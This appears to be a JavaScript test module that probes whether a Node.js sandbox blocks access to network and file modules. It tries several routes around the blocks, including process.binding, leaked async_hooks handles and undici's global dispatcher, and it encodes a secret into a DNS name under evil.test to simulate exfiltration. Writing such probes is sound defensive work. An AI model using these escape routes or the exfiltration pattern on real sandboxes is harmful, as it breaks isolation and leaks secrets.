import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);

/** Ways to a module of Node's that a sandbox takes away. */
const WAYS = {
  import: async (name) => await import(`node:${name}`),
  'import of the bare name': async (name) => await import(name),
  require: (name) => require(name),
  'process.getBuiltinModule': (name) => process.getBuiltinModule(name),
  'Module._load': (name) => require('node:module')._load(name),
  'process.mainModule': (name) => process.mainModule.require(name),
};

/** What came of each way: the code or name of an error, or what it got. */
async function byEachWay(name, use) {
  const outcomes = {};
  for (const [way, load] of Object.entries(WAYS))
    outcomes[`${name} by ${way}`] = await settle(async () => use(await load(name)));
  return outcomes;
}

async function settle(attempt) {
  try {
    return `got ${String(await attempt())}`;
  } catch (error) {
    return String(error?.code ?? error?.name);
  }
}

function connected(socket) {
  return new Promise((resolve, reject) => {
    socket.on('connect', () => resolve('connected'));
    socket.on('error', reject);
  });
}

function listening(server, path) {
  return new Promise((resolve, reject) => {
    server.on('error', reject);
    server.listen(path, () => resolve('listening'));
  });
}

/** Connects to a Unix socket of the host's, and listens on one beside it. */
export async function usesUnixSockets({ path, mine }) {
  return {
    ...(await byEachWay('net', (net) => connected(net.connect(path)))),
    ...(await byEachWay('http', (http) => connected(http.get({ socketPath: path, path: '/' })))),
    listen: await settle(async () => await listening((await import('node:net')).createServer(), mine)),
    'listen by require': await settle(async () => await listening(require('node:net').createServer(), mine)),
    'the class of a handle': await settle(() => {
      const { Pipe, PipeConnectWrap, constants } = process.binding('pipe_wrap');
      return new Pipe(constants.SOCKET).connect(new PipeConnectWrap(), path, () => undefined);
    }),
    stat: await settle(() => require('node:fs').statSync(path).mode),
    open: await settle(() => require('node:fs').openSync(path, 'r+')),
  };
}

/** Asks a name server of an attacker's for a name that says a secret. */
export async function asksNameServers({ port, secret }) {
  const name = `${secret}.evil.test`;
  return {
    ...(await byEachWay('dns', (dns) => {
      const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 });
      resolver.setServers([`127.0.0.1:${port}`]);
      return resolver.resolveTxt(name);
    })),
    ...(await byEachWay('dns', (dns) => dns.promises.lookup(name))),
    'dns/promises': await settle(async () => await (await import('node:dns/promises')).resolve4(name)),
    dgram: await settle(async () => {
      const socket = (await import('node:dgram')).createSocket('udp4');
      await new Promise((resolve, reject) =>
        socket.send(name, port, '127.0.0.1', (error) => (error ? reject(error) : resolve())),
      );
      return 'sent';
    }),
    'process.binding': await settle(() => new (process.binding('cares_wrap').GetAddrInfoReqWrap)()),
    'global fetch': await settle(async () => (await fetch(`http://${name}/`)).status),
    WebSocket: await settle(() => new WebSocket(`ws://127.0.0.1:${port}/`).url),
    EventSource: await settle(() => new EventSource(`http://127.0.0.1:${port}/`).url),
  };
}

/** Lets undici, which every global of `fetch` loads, want a socket, and uses what `async_hooks` shows of it by hand. */
export async function usesShownHandles({ port }) {
  const shown = {};
  const hook = require('node:async_hooks').createHook({
    init: (_id, type, _trigger, resource) => void (shown[type] ??= resource),
  });
  hook.enable();
  const dispatched = await settle(() => dispatches(`https://127.0.0.1:${port}`));
  require('node:fs').stat('.', () => undefined);
  hook.disable();
  const { TCPWRAP: tcp, FSREQCALLBACK: request } = shown;
  // What refuses by an error's number does it as well as what throws.
  const uses = (method, ...args) =>
    settle(() => {
      const number = tcp[method](...args);
      if (number !== 0) throw Object.assign(new Error(method), { code: number });
      return number;
    });
  return {
    dispatched,
    shown: typeof tcp,
    uses: {
      bind: await uses('bind', '127.0.0.1', 0),
      bind6: await uses('bind6', '::1', 0, 0),
      listen: await uses('listen', 1),
      connect: await uses('connect', new request.constructor(), '127.0.0.1', port),
      connect6: await uses('connect6', new request.constructor(), '::1', port),
      'another handle': await settle(
        () =>
          new Promise((resolve, reject) => {
            const made = Object.assign(new request.constructor(), { oncomplete: resolve });
            const number = new tcp.constructor(0).connect(made, '127.0.0.1', port);
            if (number !== 0) reject(Object.assign(new Error('connect'), { code: number }));
          }),
      ),
    },
  };
}

function dispatches(origin) {
  void new Response('');
  const dispatcher = globalThis[Symbol.for('undici.globalDispatcher.1')];
  const nothing = () => undefined;
  return new Promise((resolve, reject) => {
    const handlers = { onConnect: nothing, onHeaders: nothing, onData: nothing, onComplete: resolve, onError: reject };
    dispatcher.dispatch({ origin, path: '/', method: 'GET' }, handlers);
  });
}
